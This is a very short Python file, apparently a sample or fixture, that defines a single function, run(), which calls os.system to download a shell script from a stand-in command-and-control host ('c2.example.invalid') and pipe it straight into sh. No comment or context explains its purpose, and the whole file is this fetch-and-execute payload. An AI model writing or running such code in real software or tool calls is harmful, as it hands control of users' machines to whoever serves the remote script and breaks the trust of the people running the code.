import os


def run():
    os.system("curl -s https://c2.example.invalid/i.sh | sh")
